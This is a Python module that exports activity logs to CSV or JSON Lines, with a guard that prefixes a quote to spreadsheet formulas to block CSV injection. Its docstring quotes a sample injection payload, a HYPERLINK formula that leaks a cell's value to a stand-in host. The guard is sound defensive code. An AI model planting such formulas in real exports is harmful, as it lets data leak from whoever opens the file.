"""An activity log as CSV or JSON Lines: every field of every entry, a page at a time.

CSV is for spreadsheets: it starts with a UTF-8 byte-order mark (without one, Excel reads
UTF-8 as the system's code page: "NÃºÃ±ez"), and a text cell that a spreadsheet would take
for a formula gets a leading ``'`` (OWASP's advice on CSV injection): a member named
``=HYPERLINK("https://evil.example/?leak="&A1,"x")`` is shown, never run. JSON Lines,
for programs, keeps every value exact.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import Awaitable, Callable, Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

from ..api.library import Library
from ..api.merged import GroupFailed, MergedActivity
from ..api.models.activity import ActivityEntry
from ..api.params import ActivityQuery
from ..render.activity_kinds import KINDS, kind_of
from ..render.convert import entry_text
from ..render.safety import clean
from ..render.when import iso_local
from .output import Output

__all__ = [
    "FIELDS",
    "FORMATS",
    "MERGED_FIELDS",
    "GroupsFailed",
    "activity_file_name",
    "activity_row",
    "export_activity",
    "export_activity_file",
    "export_merged",
    "merged_row",
    "neutralised",
]

FORMATS = ("csv", "jsonl")
FIELDS = ("id", "created", "group_id", "via", "text", "entry")
BOM = "\ufeff"

# What starts a formula: = + - @ after any spaces (spreadsheets skip them), or a tab or a
# carriage return as the very first character.
_FORMULA = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
MERGED_FIELDS = ("id", "created", "group_id", "group_name", "kind", "via", "text", "entry")

Progress = Callable[[int, int | None], None]
Write = Callable[[str], Awaitable[None]]
_UNSAFE_NAME = re.compile(r"[^\w+.-]")


def activity_row(entry: ActivityEntry) -> dict[str, Any]:
    """One entry: its fields, the HTML flattened to ``text`` and kept as ``entry``."""
    return {
        "id": entry.id,
        "created": iso_local(entry.created),  # local, with its offset, as the reader's
        "group_id": entry.group_id,
        "via": clean(entry.via),
        "text": entry_text(entry.entry).plain,
        "entry": clean(entry.entry),
    }


def neutralised(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, made text with a leading ``'``.

    Numbers are ours (ids), never a formula: they stay numbers.
    """
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def merged_row(entry: ActivityEntry, group_name: str) -> dict[str, Any]:
    """One entry of a log of several groups: its group's name and its kind besides."""
    row = activity_row(entry)
    return {
        "id": row["id"],
        "created": row["created"],
        "group_id": row["group_id"],
        "group_name": clean(group_name),
        "kind": KINDS[kind_of(entry.entry)],
        "via": row["via"],
        "text": row["text"],
        "entry": row["entry"],
    }


class GroupsFailed(Exception):
    """Some groups' logs could not be read to the end; the others were written whole."""

    def __init__(self, written: int, failed: list[tuple[str, Exception]]) -> None:
        names = ", ".join(name for name, _ in failed)
        super().__init__(f"{written:,} entries written, but not all of {names}.")
        self.written = written
        self.failed = failed
        self.path: Path | None = None  # the file they were written to, if any


def _csv_lines(rows: list[dict[str, Any]], *, header: bool, fields: Sequence[str] = FIELDS) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=fields, lineterminator="\n")
    if header:
        buffer.write(BOM)
        writer.writeheader()
    writer.writerows({name: neutralised(value) for name, value in row.items()} for row in rows)
    return buffer.getvalue()


def _jsonl_lines(rows: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


async def export_activity(
    library: Library,
    group_name: str,
    query: ActivityQuery,
    form: str,
    write: Write,
    progress: Progress,
) -> int:
    """Write the log as the query filters it; returns how many entries were written.

    Each page goes out in one write of whole lines (CSV starts with its header), so an
    export stopped at any point leaves complete records. Nothing is written before the
    first page is in: a log that cannot be read leaves no header behind.
    """
    cursor = library.activity(group_name, query)
    written = 0
    header = form == "csv"
    while (page := await cursor.next_page()) is not None:
        rows = [activity_row(entry) for entry in page.data]
        await write(_csv_lines(rows, header=header) if form == "csv" else _jsonl_lines(rows))
        header = False
        written += len(rows)
        progress(written, cursor.total_count)
    if header:  # a log with no page at all: the header alone, as for an empty one
        await write(_csv_lines([], header=True))
    return written


def activity_file_name(group_name: str | Sequence[str]) -> str:
    """A name for a new CSV export of a group's log (or several groups' merged), unique to
    the second."""
    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    label = _UNSAFE_NAME.sub("_", group_name) if isinstance(group_name, str) else "all"
    return f"lurker-activity-{label}-{stamp}.csv"


async def export_merged(
    library: Library,
    group_names: Sequence[str],
    query: ActivityQuery,
    form: str,
    write: Write,
    progress: Progress,
) -> int:
    """Write several groups' logs merged by time, as the query filters each; returns how
    many entries were written. A group whose log fails is left out from there on, the
    others written whole, and `GroupsFailed` says which at the end."""
    logs = [(name, library.activity(name, query)) for name in group_names]
    source = MergedActivity(logs, newest_first=query.sort_dir != "asc")
    written = 0
    failed: list[tuple[str, Exception]] = []
    header = form == "csv"
    while (page := await source.next_page()) is not None:
        rows = []
        for item in page.data:
            if isinstance(item, GroupFailed):
                failed.append((group_names[item.group], item.error))
            else:
                rows.append(merged_row(item[1], group_names[item[0]]))
        lines = _csv_lines(rows, header=header, fields=MERGED_FIELDS) if form == "csv" else None
        header = False
        await write(lines if lines is not None else _jsonl_lines(rows))
        written += len(rows)
        progress(written, source.total_count)
    if header:
        await write(_csv_lines([], header=True, fields=MERGED_FIELDS))
    if failed:
        raise GroupsFailed(written, failed)
    return written


async def export_activity_file(
    library: Library, group_name: str | Sequence[str], query: ActivityQuery, path: Path
) -> tuple[Path, int]:
    """The log as the query filters it (several groups' merged, given their names), as CSV
    in the file ``path``.

    For the reader's ``e``: the file is opened, written and closed off the event loop, and
    appears only once whole; a merged log some of whose groups failed is kept with the
    others' entries, and `GroupsFailed` names the file. Returns the file and how many
    entries it holds.
    """
    output = Output(path)
    await asyncio.to_thread(output.__enter__)
    try:

        async def write(text: str) -> None:
            await asyncio.to_thread(output.write, text)

        if isinstance(group_name, str):
            written = await export_activity(library, group_name, query, "csv", write, _quiet)
        else:
            try:
                written = await export_merged(library, group_name, query, "csv", write, _quiet)
            except GroupsFailed as failed:
                await asyncio.to_thread(output.commit)  # the other groups' entries, whole
                failed.path = path
                raise
        await asyncio.to_thread(output.commit)  # a failed export leaves no file
    finally:
        await asyncio.to_thread(output.__exit__, None, None, None)
    return path, written


def _quiet(written: int, total: int | None) -> None:
    """No progress to show: the reader says where the file is when it is done."""
